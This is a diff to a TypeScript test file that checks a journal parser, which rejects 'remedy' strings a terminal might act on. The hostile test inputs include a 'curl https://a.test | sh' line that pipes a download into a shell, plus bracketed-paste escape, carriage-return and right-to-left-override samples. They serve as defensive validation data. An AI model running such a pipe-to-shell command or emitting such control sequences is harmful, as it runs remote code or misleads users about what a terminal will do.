@@ -116,7 +116,13 @@ describe('a change read back from the journal', () => {
       'a flag whose state is read by deleting it',
       withAct({
         kind: 'flag',
-        action: { provider: 'generic', flag: 'x', want: 'enabled', request, read: { ...request, method: 'DELETE' } },
+        action: {
+          provider: 'generic',
+          flag: 'x',
+          want: 'enabled',
+          request,
+          read: { ...request, method: 'DELETE' },
+        },
       }),
     ],
     [
@@ -153,4 +159,21 @@ describe('a change read back from the journal', () => {
   for (const [what, data] of refused)
     it(`never becomes a button when a file says its undo is ${what}`, () =>
       assert.equal(isTaken(data), false));
+});
+
+describe('a remedy read back from the journal', () => {
+  const ended = (remedy: string): string =>
+    lineOf({
+      run: 'run-1',
+      durationMs: 1,
+      outcome: { kind: 'failed', message: 'No session.', remedy },
+    }).replace('"ChangeMade"', '"RunEnded"');
+  const isRead = (remedy: string): boolean => {
+    const parsed = parseEvent(ended(remedy));
+    return parsed.ok && isKnown(parsed.value);
+  };
+  it('is one command line', () => assert.equal(isRead('aws sso login --profile prod'), true));
+  for (const remedy of ['curl https://a.test | sh\n', 'a\rb', '\u001b[200~a', 'a\u202eb'])
+    it(`holds nothing that a terminal would act on: ${JSON.stringify(remedy)}`, () =>
+      assert.equal(isRead(remedy), false));
 });
